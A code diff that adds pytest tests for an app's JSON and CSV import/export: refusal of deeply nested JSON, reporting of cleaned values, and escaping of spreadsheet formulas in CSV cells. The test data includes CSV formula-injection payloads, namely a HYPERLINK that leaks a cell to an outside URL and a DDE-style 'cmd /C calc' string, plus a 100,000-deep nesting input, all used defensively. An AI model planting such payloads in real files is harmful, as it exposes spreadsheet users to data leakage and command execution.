@@ -192,6 +192,58 @@ def test_unparseable_or_foreign_files_are_refused(make_app: Any, text: str) -> N
         import_json(make_app(), io.StringIO(text))
 
 
+DEEP = '{"customers": ' + "[" * 100_000 + "]" * 100_000 + "}"
+
+
+@pytest.mark.parametrize("kind", ["path", "text stream", "binary stream"])
+def test_json_nested_too_deeply_is_refused_naming_the_file(
+    make_app: Any, tmp_path: Path, kind: str
+) -> None:
+    path = tmp_path / "deep.json"
+    path.write_text(DEEP, encoding="utf-8")
+    source: Any = {
+        "path": path,
+        "text stream": io.StringIO(DEEP),
+        "binary stream": io.BytesIO(DEEP.encode()),
+    }[kind]
+    with pytest.raises(ValidationError) as caught:
+        import_json(make_app(), source)
+    assert caught.value.fields == ("file",)
+    assert "nested too deeply" in caught.value.errors[0].message
+
+
+def test_a_csv_manifest_nested_too_deeply_is_refused(make_app: Any) -> None:
+    archive = io.BytesIO()
+    with zipfile.ZipFile(archive, "w") as out:
+        out.writestr("manifest.json", DEEP)
+    with pytest.raises(ValidationError) as caught:
+        import_csv(make_app(), io.BytesIO(archive.getvalue()))
+    assert caught.value.fields == ("manifest.json",)
+    assert "nested too deeply" in caught.value.errors[0].message
+
+
+def test_values_cleaned_on_the_way_in_are_reported(source: Any, make_app: Any) -> None:
+    app, sam, _ = source
+    document = json.loads(export_text(app, sam))
+    document["account"]["email"] = "Sam@Example.COM"
+    bob = next(c for c in document["customers"] if c["name"] == "Bob")
+    bob["name"], bob["phone"], bob["notes"] = " Bob  ", "", "  "
+    report = import_json(make_app(), io.StringIO(json.dumps(document)))
+    changes = {(a.kind, a.id, a.field): a for a in report.alterations}
+    assert set(changes) == {
+        ("user", sam, "email"),
+        ("customer", bob["id"], "name"),
+        ("customer", bob["id"], "phone"),
+        ("customer", bob["id"], "notes"),
+    }
+    email = changes[("user", sam, "email")]
+    assert (email.old, email.new) == ("Sam@Example.COM", "sam@example.com")
+    assert "lower-cased" in email.reason
+    assert "trimmed" in changes[("customer", bob["id"], "name")].reason
+    assert changes[("customer", bob["id"], "phone")].new is None
+    assert import_json(make_app(), io.StringIO(export_text(app, sam))).alterations == ()
+
+
 def test_a_failure_while_writing_rolls_everything_back(source: Any, make_app: Any) -> None:
     app, sam, _ = source
     text = export_text(app, sam)
@@ -304,3 +356,104 @@ def test_export_reflects_the_store_exactly(
     paid = [j for j in ws.list_jobs() if j.paid]
     assert {j["id"] for j in document["jobs"] if j["paid_at"]} == {j.id for j in paid}
     assert attrs.asdict(ws.user)["email"] == document["account"]["email"]
+
+
+# -- formulas in CSV cells ------------------------------------------------------------------
+#: Text a spreadsheet would run as a formula, and text that only looks escaped.
+RISKY = {
+    "name": '=HYPERLINK("http://example.com/x?"&A1,"Click")',
+    "phone": "+1+1",
+    "address": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "notes": "-2+3\rsecond line\r\nthird",  # a lone CR too
+    "business_name": "'=already quoted",
+}
+#: Ids are opaque text: they may start with anything, a tab or a carriage return too.
+RISKY_IDS = ("\tcustomer", "\rjob", "=job", "'@job")
+TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
+
+
+@pytest.fixture
+def risky(make_app: Any) -> tuple[Any, str]:
+    app = make_app()
+    user = app.register(email="-sam@example.com", password=PASSWORD, name="+Sam")
+    ws = app.workspace(user.id)
+    customer = ws.add_customer(id=RISKY_IDS[0], **RISKY)
+    for job_id in RISKY_IDS[1:]:
+        ws.create_job(customer.id, "=1+2", id=job_id, description="@A1\n=B2")
+    return app, user.id
+
+
+def _cells(archive: bytes) -> dict[str, list[list[str]]]:
+    with zipfile.ZipFile(io.BytesIO(archive)) as zipped:
+        return {
+            name: list(csv.reader(io.StringIO(zipped.read(name).decode(), newline="")))[1:]
+            for name in ("account.csv", "customers.csv", "jobs.csv")
+        }
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_escaped(risky: Any) -> None:
+    app, user_id = risky
+    out = io.BytesIO()
+    export_csv(app, user_id, out)
+    cells = [cell for rows in _cells(out.getvalue()).values() for row in rows for cell in row]
+    assert not [c for c in cells if c.startswith(TRIGGERS)]
+    assert "'" + RISKY["name"] in cells and "'+1+1" in cells and "'-sam@example.com" in cells
+    assert "'\tcustomer" in cells and "'\rjob" in cells and "''@job" in cells
+    assert "''=already quoted" in cells  # so that the import can tell it from an escape
+    with zipfile.ZipFile(out) as zipped:
+        assert json.loads(zipped.read("manifest.json"))["formulas"] == "escape"
+
+
+def test_escaped_csv_round_trips_losslessly(risky: Any, make_app: Any) -> None:
+    app, user_id = risky
+    out = io.BytesIO()
+    export_csv(app, user_id, out)
+    target = make_app()
+    assert import_csv(target, io.BytesIO(out.getvalue())).created == Counts(1, 1, 3)
+    assert state(target, user_id) == state(app, user_id)
+    assert without_time(export_text(target, user_id)) == without_time(export_text(app, user_id))
+    customer = target.workspace(user_id).get_customer(RISKY_IDS[0])
+    assert (customer.name, customer.business_name) == (RISKY["name"], RISKY["business_name"])
+
+
+def test_csv_formulas_can_be_kept_as_they_are(risky: Any, make_app: Any) -> None:
+    app, user_id = risky
+    out = io.BytesIO()
+    export_csv(app, user_id, out, formulas="keep")
+    cells = [cell for rows in _cells(out.getvalue()).values() for row in rows for cell in row]
+    assert RISKY["name"] in cells and "\rjob" in cells and "'=already quoted" in cells
+    with zipfile.ZipFile(out) as zipped:
+        assert json.loads(zipped.read("manifest.json"))["formulas"] == "keep"
+    target = make_app()
+    import_csv(target, io.BytesIO(out.getvalue()))
+    assert state(target, user_id) == state(app, user_id)
+    with pytest.raises(ValidationError, match="formulas"):
+        export_csv(app, user_id, io.BytesIO(), formulas="strip")
+
+
+def test_a_csv_archive_without_a_formulas_entry_is_read_as_it_is(risky: Any, make_app: Any) -> None:
+    app, user_id = risky
+    out = io.BytesIO()
+    export_csv(app, user_id, out, formulas="keep")
+    older = io.BytesIO()  # as written before the manifest said how formulas were written
+    with zipfile.ZipFile(out) as source_zip, zipfile.ZipFile(older, "w") as copy:
+        for name in source_zip.namelist():
+            data = source_zip.read(name)
+            if name == "manifest.json":
+                manifest = json.loads(data)
+                del manifest["formulas"]
+                data = json.dumps(manifest).encode()
+            copy.writestr(name, data)
+    target = make_app()
+    import_csv(target, io.BytesIO(older.getvalue()))
+    assert target.workspace(user_id).get_customer(RISKY_IDS[0]).business_name == "'=already quoted"
+    broken = io.BytesIO()
+    with zipfile.ZipFile(older) as source_zip, zipfile.ZipFile(broken, "w") as copy:
+        for name in source_zip.namelist():
+            data = source_zip.read(name)
+            if name == "manifest.json":
+                data = json.dumps({**json.loads(data), "formulas": "maybe"}).encode()
+            copy.writestr(name, data)
+    with pytest.raises(ValidationError) as caught:
+        import_csv(make_app(), io.BytesIO(broken.getvalue()))
+    assert caught.value.fields == ("manifest.json.formulas",)
